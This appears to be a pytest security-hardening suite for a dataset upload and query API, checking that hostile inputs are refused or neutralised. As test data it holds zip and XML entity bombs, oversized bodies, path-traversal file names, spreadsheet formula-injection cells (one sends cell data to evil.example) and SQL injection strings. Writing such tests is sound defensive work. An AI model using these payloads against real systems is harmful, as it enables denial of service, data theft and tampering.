"""Hostile uploads through the HTTP API: each is refused with a clean 4xx and changes nothing.

"Nothing" is checked from the outside: the dataset's current version, its versions, its row
count and the keys in file storage are the same before and after the attempt.
"""

from __future__ import annotations

import csv
import io
import os
import select
import socket
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import openpyxl
import pytest
from fastapi.testclient import TestClient

from datahub.runtime import Runtime, build_runtime
from tests.conftest import Persona
from tests.hardening.conftest import LEAKS, assert_clean_problem, snapshot
from tests.liveserver import LiveServer, serve

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET = "xl/worksheets/sheet1.xml"
MiB = 1 << 20


def _upload(
    client: TestClient, who: Persona, dataset_id: str, body: bytes, content_type: str
) -> httpx.Response:
    response: httpx.Response = client.post(
        f"/api/v1/datasets/{dataset_id}/versions",
        content=body,
        headers={**who.headers, "Content-Type": content_type},
    )
    return response


def _refused(
    client: TestClient,
    runtime: Runtime,
    who: Persona,
    dataset_id: str,
    body: bytes,
    content_type: str = "text/csv",
    status: int | tuple[int, ...] = 422,
) -> dict[str, object]:
    """Upload ``body``, expect a clean problem, and an unchanged catalogue; return the problem."""
    before = snapshot(client, runtime, dataset_id)
    response = _upload(client, who, dataset_id, body, content_type)
    assert_clean_problem(response, status)
    assert snapshot(client, runtime, dataset_id) == before
    return dict(response.json())


def _messages(problem: dict[str, object]) -> str:
    errors = problem.get("errors") or []
    assert isinstance(errors, list)
    return " | ".join([str(problem["detail"]), *(str(e["message"]) for e in errors)])


# --------------------------------------------------------------------------------------------
# Malformed CSV and encodings


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        # Row 2 has one field where the header has two, row 3 has three.
        pytest.param(b"site,kwh\nA,1\nB\nC,3,4\n", "expected 2 fields, found 1", id="ragged"),
        pytest.param(b'site,kwh\nA,"1\nB,2\n', "Unterminated quote", id="unterminated-quote"),
        pytest.param(b"site,kwh\nA,1\nB\x00,2\n", "NUL byte", id="nul-byte"),
        # A UTF-16 mark followed by an odd number of bytes cannot be UTF-16.
        pytest.param(b"\xff\xfes\x00i\x00t\x00e\x00\n", "UTF-16", id="false-utf16-bom"),
        # A UTF-8 mark, then a Windows-1252 'é' (0xE9): the file says UTF-8 and is not.
        pytest.param(b"\xef\xbb\xbfsite,kwh\nA\xe9,1\n", "Invalid UTF-8", id="bom-then-cp1252"),
        # Valid UTF-8 'é' (C3 A9) on row 1, a Windows-1252 'é' on row 2: mixed encodings.
        pytest.param(b"site,kwh\nA\xc3\xa9,1\nB\xe9,2\n", "Invalid UTF-8", id="mixed-encodings"),
    ],
)
def test_malformed_csv_is_refused(
    client: TestClient,
    runtime: Runtime,
    producer: Persona,
    dataset: str,
    body: bytes,
    expected: str,
) -> None:
    problem = _refused(client, runtime, producer, dataset, body)
    assert expected in _messages(problem)


def test_ragged_rows_are_each_named(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str
) -> None:
    problem = _refused(client, runtime, producer, dataset, b"site,kwh\nA,1\nB\nC,3,4\nD,4\n")
    errors = problem["errors"]
    assert isinstance(errors, list)
    # Data rows 2 ("B") and 3 ("C,3,4") are the ragged ones; rows 1 and 4 are fine.
    assert [e["row"] for e in errors] == [2, 3]


# --------------------------------------------------------------------------------------------
# Size limits, over a real socket


def _raw_request(server: LiveServer, head: bytes) -> socket.socket:
    sock = socket.create_connection((server.host, server.port), timeout=10)
    sock.sendall(head)
    return sock


def _read_response(sock: socket.socket, timeout: float = 10) -> bytes:
    sock.settimeout(timeout)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return head + b"\r\n\r\n" + rest


def _status_and_body(raw: bytes) -> tuple[int, bytes, str]:
    head, _, body = raw.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    return status, body, head.decode("latin-1").lower()


def _healthy(server: LiveServer) -> bool:
    return httpx.get(f"{server.url}/api/v1/health", timeout=10).status_code == 200


def test_declared_2gb_with_short_body_is_refused_before_reading(
    client: TestClient,
    runtime: Runtime,
    producer: Persona,
    dataset: str,
    live_server: LiveServer,
) -> None:
    before = snapshot(client, runtime, dataset)
    head = (
        f"POST /api/v1/datasets/{dataset}/versions HTTP/1.1\r\n"
        f"Host: {live_server.host}\r\n"
        f"Authorization: Bearer {producer.token}\r\n"
        "Content-Type: text/csv\r\n"
        "Content-Length: 2147483648\r\n\r\n"
        "site,kwh\nA,1\n"
    ).encode()
    started = time.monotonic()
    sock = _raw_request(live_server, head)
    try:
        status, body, headers = _status_and_body(_read_response(sock))
    finally:
        sock.close()
    # The answer comes while the client still owes 2 GiB: the declared size alone decided it.
    assert time.monotonic() - started < 5
    assert status == 413
    assert "application/problem+json" in headers
    assert b"larger than 1024 MiB" in body
    assert not any(leak.encode() in body for leak in LEAKS)
    assert _healthy(live_server)
    assert snapshot(client, runtime, dataset) == before


@pytest.fixture
def small_limit_server(runtime: Runtime) -> Iterator[LiveServer]:
    """The same database and storage, served with a 1 MiB upload limit."""
    small = build_runtime(runtime.settings.model_copy(update={"max_upload_mb": 1}))
    try:
        yield from serve(small)
    finally:
        small.close()


def test_chunked_body_over_the_limit_is_cut_off(
    client: TestClient,
    runtime: Runtime,
    producer: Persona,
    dataset: str,
    small_limit_server: LiveServer,
) -> None:
    """A chunked body (no Content-Length) that grows past 1 MiB: 413, and the server stops reading.

    The client offers 256 MiB in 64 KiB chunks. The server answers once it has received just
    over 1 MiB and closes the connection; what the client managed to push is then bounded by
    the kernel's socket buffers (a few MiB on loopback), far below the 256 MiB offered.
    """
    before = snapshot(client, runtime, dataset)
    offered = 256 * MiB
    chunk = b"A," + b"1" * (64 * 1024 - 3) + b"\n"
    framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
    head = (
        f"POST /api/v1/datasets/{dataset}/versions HTTP/1.1\r\n"
        f"Host: {small_limit_server.host}\r\n"
        f"Authorization: Bearer {producer.token}\r\n"
        "Content-Type: text/csv\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
        "5\r\nsite,\r\n"
    ).encode()
    sock = _raw_request(small_limit_server, head)
    sent, answer = 0, b""
    try:
        sock.settimeout(5)
        while sent < offered:
            readable, _, _ = select.select([sock], [], [], 0)
            if readable:
                break
            try:
                sock.sendall(framed)
            except (BrokenPipeError, ConnectionResetError, TimeoutError):
                break
            sent += len(chunk)
        answer = _read_response(sock)
    finally:
        sock.close()
    status, body, headers = _status_and_body(answer)
    assert status == 413
    assert "application/problem+json" in headers
    assert b"larger than 1 MiB" in body
    assert sent < 32 * MiB, f"the client pushed {sent / MiB:.0f} MiB"
    assert _healthy(small_limit_server)
    assert snapshot(client, runtime, dataset) == before


def test_declared_size_over_the_limit_through_the_client(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str
) -> None:
    """The same rule through the test client: a declared size over the limit is a 413."""
    before = snapshot(client, runtime, dataset)
    response = client.post(
        f"/api/v1/datasets/{dataset}/versions",
        content=b"site,kwh\nA,1\n",
        headers={
            **producer.headers,
            "Content-Type": "text/csv",
            "Content-Length": str(2 << 30),
        },
    )
    assert_clean_problem(response, 413)
    assert snapshot(client, runtime, dataset) == before


# --------------------------------------------------------------------------------------------
# XLSX bombs


def _workbook() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["site", "kwh"])
    sheet.append(["A", 1.5])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rewrite(
    xlsx: bytes,
    replace: dict[str, Iterator[bytes]],
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """Copy a workbook, streaming new content into some members (so bombs never sit in memory)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename in replace:
                with target.open(info.filename, "w", force_zip64=True) as member:
                    for piece in replace[info.filename]:
                        member.write(piece)
            else:
                target.writestr(info, source.read(info.filename))
        for name, data in (extra or {}).items():
            target.writestr(name, data, compress_type=zipfile.ZIP_STORED)
    return out.getvalue()


def _padded_sheet(xlsx: bytes, padding: int) -> Iterator[bytes]:
    """The first sheet with ``padding`` bytes of whitespace before its data: valid XML."""
    original = zipfile.ZipFile(io.BytesIO(xlsx)).read(SHEET)
    start, marker, rest = original.partition(b"<sheetData>")
    assert marker
    yield start
    block = b" " * MiB
    for _ in range(padding // MiB):
        yield block
    yield marker + rest


def test_xlsx_zip_bomb_is_refused(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str
) -> None:
    # 256 MiB of whitespace deflates to about 250 KiB: a ratio near 1,000 where real sheets
    # stay well under 100.
    bomb = _rewrite(_workbook(), {SHEET: _padded_sheet(_workbook(), 256 * MiB)})
    assert len(bomb) < 2 * MiB
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist()) > 256 * MiB
    problem = _refused(client, runtime, producer, dataset, bomb, XLSX)
    assert "inflates too much" in _messages(problem)


def test_xlsx_zip_bomb_behind_incompressible_padding_is_refused(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str
) -> None:
    """A bomb member next to a stored, random member that drags the archive's overall ratio down.

    Whole archive: ~256 MiB expanded over ~2.3 MiB packed, a ratio of ~110; the sheet alone
    inflates ~1,000 times. Each member is judged on its own.
    """
    bomb = _rewrite(
        _workbook(),
        {SHEET: _padded_sheet(_workbook(), 256 * MiB)},
        extra={"xl/media/image1.bin": os.urandom(2 * MiB)},
    )
    infos = zipfile.ZipFile(io.BytesIO(bomb)).infolist()
    overall = sum(i.file_size for i in infos) / sum(i.compress_size for i in infos)
    assert overall < 200
    problem = _refused(client, runtime, producer, dataset, bomb, XLSX)
    assert "inflates too much" in _messages(problem)


_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)


def _billion_laughs_sheet() -> Iterator[bytes]:
    # &lol9; expands to 10^9 "lol": 3 GB of text from a 1 KB file.
    yield _LAUGHS
    yield (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>site</t></is></c></row>'
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )


def _billion_laughs_strings() -> Iterator[bytes]:
    yield _LAUGHS
    yield (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )


def _one(data: bytes) -> Iterator[bytes]:
    yield data


def _shared_strings_bomb() -> bytes:
    """openpyxl writes inline strings: add a shared-strings part, declared, and a cell using it."""
    xlsx = _workbook()
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    types = source.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    sheet = source.read(SHEET).replace(
        b'<c r="A2" t="inlineStr"><is><t>A</t></is></c>', b'<c r="A2" t="s"><v>0</v></c>'
    )
    assert b't="s"' in sheet
    return _rewrite(
        xlsx,
        {"[Content_Types].xml": _one(types), SHEET: _one(sheet)},
        extra={"xl/sharedStrings.xml": b"".join(_billion_laughs_strings())},
    )


@pytest.mark.parametrize("where", ["sheet", "shared-strings"])
def test_xlsx_xml_entity_bomb_is_refused(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str, where: str
) -> None:
    if where == "sheet":
        bomb = _rewrite(_workbook(), {SHEET: _billion_laughs_sheet()})
    else:
        bomb = _shared_strings_bomb()
    assert len(bomb) < 20_000
    started = time.monotonic()
    problem = _refused(client, runtime, producer, dataset, bomb, XLSX)
    assert time.monotonic() - started < 10
    assert "Not a readable XLSX file" in _messages(problem) or "XLSX" in _messages(problem)


# --------------------------------------------------------------------------------------------
# GeoJSON and JSON


def _line_feature_collection(path: Path, vertices: int) -> Path:
    """A FeatureCollection with one LineString of ``vertices`` points, written in pieces."""
    per_piece = 100_000
    with path.open("wb") as out:
        out.write(
            b'{"type":"FeatureCollection","features":[{"type":"Feature",'
            b'"properties":{"site":"A"},"geometry":{"type":"LineString","coordinates":['
        )
        written = 0
        while written < vertices:
            n = min(per_piece, vertices - written)
            piece = b"[1.5,2.5]," * n
            written += n
            out.write(piece if written < vertices else piece[:-1])
        out.write(b"]}}]}")
    return path


def test_geojson_with_ten_million_vertices_is_refused(
    client: TestClient,
    runtime: Runtime,
    producer: Persona,
    dataset: str,
    live_server: LiveServer,
    tmp_path: Path,
) -> None:
    """10,000,000 vertices in one feature (100 MB of text, ~1.3 GB as Python lists) is refused.

    The reader counts positions while the feature is parsed, so it gives up after reading the
    first million instead of building the whole geometry in memory.
    """
    path = _line_feature_collection(tmp_path / "line.geojson", 10_000_000)
    assert path.stat().st_size > 100_000_000
    before = snapshot(client, runtime, dataset)
    started = time.monotonic()
    with path.open("rb") as body:
        response = httpx.post(
            f"{live_server.url}/api/v1/datasets/{dataset}/versions",
            content=body,
            headers={**producer.headers, "Content-Type": "application/geo+json"},
            timeout=60,
        )
    # ~5 s on a laptop; the bound only shows the refusal does not grind through the file.
    assert time.monotonic() - started < 60
    assert_clean_problem(response, 422)
    assert "positions" in response.json()["detail"]
    assert snapshot(client, runtime, dataset) == before


def test_geojson_with_a_large_but_reasonable_geometry_is_accepted(
    client: TestClient, producer: Persona, dataset: str, tmp_path: Path
) -> None:
    """The cap is not a nuisance: 200,000 vertices in a feature (a detailed coastline) pass."""
    path = _line_feature_collection(tmp_path / "coast.geojson", 200_000)
    response = _upload(client, producer, dataset, path.read_bytes(), "application/geo+json")
    assert response.status_code == 201, response.text
    assert response.json()["row_count"] == 1


def _nested(depth: int, opening: str, closing: str, leaf: str = "1") -> bytes:
    return (opening * depth + leaf + closing * depth).encode()


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(_nested(10_000, "[", "]"), id="array-10000"),
        pytest.param(b"[" + _nested(10_000, '{"a":', "}") + b"]", id="row-value-10000"),
        pytest.param(_nested(10_000, '{"a":', "}"), id="object-10000"),
        pytest.param(b"[" + _nested(300, '{"a":', "}") + b"]", id="row-value-300"),
        pytest.param(_nested(300, '{"a":', "}") + b"\n", id="ndjson-300"),
    ],
)
def test_deeply_nested_json_upload_is_refused(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str, body: bytes
) -> None:
    _refused(client, runtime, producer, dataset, body, "application/json")


def test_deeply_nested_json_request_body_is_refused(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str
) -> None:
    """Not an upload: a 10,000-level JSON body sent to a JSON endpoint."""
    before = snapshot(client, runtime, dataset)
    body = b'{"title": "x", "licence": "etalab-2.0", "extra": ' + _nested(10_000, "[", "]") + b"}"
    for method, path in (("POST", "/api/v1/datasets"), ("PATCH", f"/api/v1/datasets/{dataset}")):
        response = client.request(
            method,
            path,
            content=body,
            headers={**producer.headers, "Content-Type": "application/json"},
        )
        assert_clean_problem(response, (400, 422))
    assert snapshot(client, runtime, dataset) == before
    assert client.get("/api/v1/datasets").json()["meta"]["total"] == 1


# --------------------------------------------------------------------------------------------
# File names


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd.csv",
        "..\\..\\windows\\system32\\evil.csv",
        "/absolute/path.csv",
        "com\x07pteurs\x1b[31m\r\n.csv",
        "....//....//x.csv",
        "%2e%2e%2fencoded.csv",
    ],
)
def test_file_names_cannot_escape_storage(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str, name: str
) -> None:
    """Hostile names are neutralised, not refused: the file lands under the dataset's folder."""
    before = set(runtime.storage.list_keys(""))
    response = client.post(
        f"/api/v1/datasets/{dataset}/versions",
        files={"file": (name, b"site,kwh\nZ,9\n", "text/csv")},
        headers=producer.headers,
    )
    assert response.status_code == 201, response.text
    stored = response.json()["filename"]
    assert "/" not in stored
    assert "\\" not in stored
    assert ".." not in stored
    assert not any(ord(c) < 32 or ord(c) == 127 for c in stored)
    assert "%" not in stored
    new = set(runtime.storage.list_keys("")) - before
    assert len(new) == 1
    (key,) = new
    assert key.startswith(f"datasets/{dataset}/")
    assert key.endswith("/" + stored)
    # Nothing was written beside the storage root.
    root = Path(runtime.settings.storage_url.removeprefix("file://"))
    assert sorted(p.name for p in root.parent.iterdir() if p.suffix == ".csv") == []
    download = client.get(f"/api/v1/datasets/{dataset}/versions/2/file")
    assert download.headers["content-disposition"] == f'attachment; filename="{stored}"'


def test_raw_body_file_name_header_and_query_are_neutralised(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str
) -> None:
    response = client.post(
        f"/api/v1/datasets/{dataset}/versions",
        params={"filename": "../../../etc/shadow.csv"},
        content=b"site,kwh\nY,8\n",
        headers={**producer.headers, "Content-Type": "text/csv"},
    )
    assert response.status_code == 201, response.text
    assert response.json()["filename"] == "shadow.csv"
    response = client.post(
        f"/api/v1/datasets/{dataset}/versions",
        content=b"site,kwh\nX,7\n",
        headers={**producer.headers, "Content-Type": "text/csv", "X-Filename": "..\\..\\a\tb.csv"},
    )
    assert response.status_code == 201, response.text
    assert response.json()["filename"] == "a_b.csv"


@pytest.mark.parametrize(
    "dataset_path", ["..%2F..%2Fetc", "compteurs%00", "compteurs%2F..%2F..", "%2e%2e"]
)
def test_dataset_ids_with_traversal_are_not_found(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str, dataset_path: str
) -> None:
    before = snapshot(client, runtime, dataset)
    response = client.post(
        f"/api/v1/datasets/{dataset_path}/versions",
        content=b"site,kwh\nW,6\n",
        headers={**producer.headers, "Content-Type": "text/csv"},
    )
    assert_clean_problem(response, (400, 404, 422))
    assert snapshot(client, runtime, dataset) == before


# --------------------------------------------------------------------------------------------
# Formula injection, neutralised on CSV output


def test_formula_cells_are_neutralised_on_csv_output(
    client: TestClient, producer: Persona, dataset: str
) -> None:
    # (cell as uploaded, as JSON gives it back, as CSV serves it). The reader trims the blanks
    # around a cell, so a tab-led formula comes back as a plain formula, then is neutralised.
    cells = [
        ('=HYPERLINK("http://evil.example/?"&A1,"clic")',) * 2
        + ('\'=HYPERLINK("http://evil.example/?"&A1,"clic")',),
        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        (
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
        ),
        ("\t=1+1", "=1+1", "'=1+1"),
        (" =2+2", "=2+2", "'=2+2"),
        ("-12,5", "-12,5", "-12,5"),  # a plain number cannot run anything: left alone
        ("plain text", "plain text", "plain text"),
    ]
    body = io.StringIO()
    writer = csv.writer(body, delimiter=";", lineterminator="\n")
    writer.writerow(["site", "note"])
    for i, (cell, _, _) in enumerate(cells):
        writer.writerow([f"S{i}", cell])
    response = _upload(client, producer, dataset, body.getvalue().encode(), "text/csv")
    assert response.status_code == 201, response.text

    # JSON gives the values back as they were read...
    data = client.get(f"/api/v1/datasets/{dataset}/data?page_size=100&sort=site").json()["data"]
    assert [row["note"] for row in data] == [as_json for _, as_json, _ in cells]
    # ...CSV, meant for spreadsheets, defuses every cell that starts like a formula.
    for dialect, delimiter in (("default", ","), ("fr", ";")):
        served = client.get(
            f"/api/v1/datasets/{dataset}/data?format=csv&sort=site&dialect={dialect}"
        )
        assert served.status_code == 200
        text = served.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
        assert [row["note"] for row in rows] == [as_csv for _, _, as_csv in cells]


# --------------------------------------------------------------------------------------------
# SQL metacharacters in every filter parameter

SQL_PAYLOADS = [
    "' OR '1'='1",
    "A'; DROP TABLE dataset; --",
    '" OR ""="',
    "1) OR (1=1",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
    "A%",
    "_",
    "💥' UNION SELECT * FROM app_user --",
]


def _data(client: TestClient, dataset_id: str, params: dict[str, str]) -> httpx.Response:
    response: httpx.Response = client.get(f"/api/v1/datasets/{dataset_id}/data", params=params)
    return response


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
def test_sql_metacharacters_in_row_filters_match_nothing(
    client: TestClient, runtime: Runtime, dataset: str, payload: str
) -> None:
    """Values are bound parameters: a payload is compared as text and matches no row."""
    before = snapshot(client, runtime, dataset)
    for op in ("exact", "contains", "in", "less", "greater"):
        response = _data(client, dataset, {f"site__{op}": payload})
        if response.status_code == 200:
            body = response.json()
            # "less"/"greater" compare text: only "A" < "' OR..." is impossible, yet the
            # comparison itself is fine; what matters is that no injected clause ran.
            if op in ("exact", "contains", "in"):
                assert body["data"] == [], (op, payload)
        else:
            assert_clean_problem(response, (400, 422), payload)
    for op in ("differs", "notin"):
        response = _data(client, dataset, {f"site__{op}": payload})
        assert response.status_code == 200
        assert response.json()["meta"]["total"] == 2  # both rows differ from the payload
    # A numeric column refuses a non-number instead of passing it to SQL.
    response = _data(client, dataset, {"kwh__exact": payload})
    assert_clean_problem(response, 422, payload)
    response = _data(client, dataset, {"site__isnull": payload})
    assert_clean_problem(response, 422, payload)
    assert snapshot(client, runtime, dataset) == before


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
def test_sql_metacharacters_in_column_names_sort_and_cursor_are_refused(
    client: TestClient, runtime: Runtime, dataset: str, payload: str
) -> None:
    before = snapshot(client, runtime, dataset)
    for params in (
        {f"{payload}__exact": "A"},
        {"sort": payload},
        {"sort": "-" + payload},
        {"after": payload},
        {"site__" + payload: "A"},
    ):
        response = _data(client, dataset, params)
        assert_clean_problem(response, (400, 422), payload)
    assert snapshot(client, runtime, dataset) == before


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
def test_sql_metacharacters_in_search_parameters_find_nothing(
    client: TestClient, runtime: Runtime, producer: Persona, dataset: str, payload: str
) -> None:
    before = snapshot(client, runtime, dataset)
    for name in ("q", "licence", "kind", "producer", "territory"):
        response = client.get("/api/v1/datasets", params={name: payload})
        if response.status_code == 200:
            assert response.json()["data"] == [], (name, payload)
        else:
            assert_clean_problem(response, (400, 422), payload)
    response = client.get("/api/v1/datasets", params={"level": payload})
    assert_clean_problem(response, 422, payload)
    quoted = quote(payload, safe="")
    for path in (f"/api/v1/datasets/{quoted}", f"/api/v1/licenses/{quoted}"):
        response = client.get(path)
        assert_clean_problem(response, (404, 422), payload)
    assert snapshot(client, runtime, dataset) == before
    assert client.get("/api/v1/datasets").json()["meta"]["total"] == 1


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/datasets/compteurs/data?site__contains=A%00B",
        "/api/v1/datasets/compteurs/data?site__exact=%00",
        "/api/v1/datasets?q=%00",
        "/api/v1/datasets?territory=commune%3A17300%00",
        "/api/v1/datasets/compteurs%00",
        "/api/v1/licenses/etalab-2.0%00",
    ],
)
def test_nul_in_urls_is_refused(
    client: TestClient, runtime: Runtime, dataset: str, url: str
) -> None:
    """SQLite would cut "A\\0B" to "A" and match row A; PostgreSQL would fail: both answer 400."""
    before = snapshot(client, runtime, dataset)
    response = client.get(url)
    assert_clean_problem(response, 400)
    assert "NUL" in response.json()["detail"]
    assert snapshot(client, runtime, dataset) == before
